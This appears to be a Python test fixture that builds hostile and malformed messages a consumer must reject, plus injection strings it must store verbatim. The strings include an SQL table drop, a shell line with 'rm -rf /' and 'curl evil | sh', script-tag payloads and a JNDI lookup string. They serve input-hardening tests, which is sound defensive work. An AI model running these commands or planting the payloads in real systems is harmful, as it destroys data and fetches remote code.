"""Hostile input, hand-picked: messages every consumer must dead-letter with a reason, and odd text it must keep verbatim."""

import json
from typing import Any

# Personal data planted in every hostile message: no reason may repeat it.
PLANTED_PHONE = "13912345678"
PLANTED_NAME = "欧阳某某"

# Text that is valid and must come out exactly as it went in: injections are data, not code.
ODD_TEXT = [
    ("SQL", "'); DROP TABLE triage_processed; -- 1=1"),
    ("shell", "$(rm -rf /) `reboot` && curl evil | sh"),
    ("HTML", "<script>alert('x')</script><img src=x onerror=alert(1)>"),
    ("templates", "{{7*7}} ${jndi:ldap://x/a} {% raw %} #{1+1}"),
    ("tabs and line breaks", "第一行\n第二行\r\n\t缩进"),
    ("right-to-left marks", "\u202e\u200f反向\u202c\u2066隔离\u2069"),
    ("emoji", "吵架😡👨‍👩‍👧‍👦🏳️‍🌈"),
    ("CJK extensions", "𠀀𪚥𫝀𬺰𰻝"),
]


def _json(payload: Any) -> bytes:
    return json.dumps(payload, ensure_ascii=False, allow_nan=True).encode()


def _with(payload: dict, **changes: Any) -> bytes:
    return _json(payload | changes)


def bad_messages(valid: dict, number_field: str, time_field: str, text_field: str) -> list[tuple[str, bytes]]:
    """Return (case, bytes) pairs built around one valid payload of the topic; every one must be dead-lettered.

    `number_field` is an integer field, `time_field` a timestamp, `text_field` a bounded string.
    """
    planted = f"{PLANTED_NAME} {PLANTED_PHONE}"
    without_first = {k: v for k, v in list(valid.items())[1:]}
    return [
        ("random bytes", bytes(range(256)) * 4),
        ("invalid UTF-8", _json(valid)[:-1] + b', "x": "\xff\xfe\xc3\x28"}'),
        ("empty", b""),
        ("only whitespace", b"   \n"),
        ("10 MB", b'{"padding": "' + b"a" * (10 * 1024 * 1024) + b'"}'),
        ("deeply nested", b"[" * 100_000 + b"]" * 100_000),
        ("nested object", _with(valid, **{text_field: json.loads("[" * 50 + "1" + "]" * 50)})),
        ("not an object", b"[1, 2, 3]"),
        ("null", b"null"),
        ("huge number", _with(valid, **{number_field: 10**40})),
        ("negative number", _with(valid, **{number_field: -1})),
        ("NaN", _with(valid, **{number_field: float("nan")})),
        ("Infinity", _with(valid, **{number_field: float("inf")})),
        ("number as text", _with(valid, **{number_field: "1"})),
        ("wrong type", _with(valid, **{text_field: {"name": planted}})),
        ("missing field", _json(without_first)),
        ("extra field", _with(valid, admin=True, note_to_self=planted)),
        ("personal data as a field name", _with(valid, **{PLANTED_PHONE: 1, PLANTED_NAME: True})),
        ("naive time", _with(valid, **{time_field: "2026-03-02T09:30:00"})),
        ("time as a number", _with(valid, **{time_field: 1772400000})),
        ("oversized text", _with(valid, **{text_field: planted * 10_000})),
        # PostgreSQL cannot store NUL: the contract refuses it before any store sees it.
        ("NUL in the event id", _with(valid, event_id=f"{valid['event_id']}\u0000")),
        ("NUL in text", _with(valid, **{text_field: "调解\u0000记录"})),
        ("control characters in text", _with(valid, **{text_field: "铃\u0007退格\u0008转义\u001b[31m红"})),
        ("10,000 parties", _with(valid, parties=[{"role": "complainant", "kind": "person", "name": PLANTED_NAME, "phone": PLANTED_PHONE}] * 10_000)),
        ("duplicate keys with a bad last value", _json(valid)[:-1] + f', "{number_field}": "{planted}"}}'.encode()),
    ]
